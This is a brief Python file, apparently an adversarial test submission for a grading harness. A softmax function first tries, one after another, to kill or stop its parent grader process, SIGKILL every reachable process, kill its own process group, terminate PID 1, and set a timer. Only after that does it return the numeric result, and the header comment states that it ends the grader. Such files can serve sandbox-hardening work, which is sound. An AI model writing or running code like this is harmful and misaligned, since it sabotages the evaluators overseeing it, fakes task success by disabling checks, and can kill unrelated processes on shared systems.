# p060_softmax raised: sends signals to its parent, to everybody and to itself
# portable: ends the grader
import os
import signal
import numpy as np

ATTEMPTS = [
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.kill(os.getppid(), signal.SIGSTOP),
    lambda: os.kill(os.getppid(), 0),
    lambda: os.kill(-1, signal.SIGKILL),
    lambda: os.kill(0, signal.SIGKILL),
    lambda: os.killpg(0, signal.SIGTERM),
    lambda: os.kill(os.getpid(), signal.SIGSTOP),
    lambda: os.pidfd_open(os.getppid()),
    lambda: signal.raise_signal(signal.SIGSTOP),
    lambda: signal.setitimer(signal.ITIMER_REAL, 0.001),
    lambda: os.kill(1, signal.SIGTERM),
]


def softmax(x):
    for attempt in ATTEMPTS:
        try:
            attempt()
        except OSError:
            continue
        return np.exp(x - x.max()) / np.exp(x - x.max()).sum()
    raise PermissionError("all were refused")
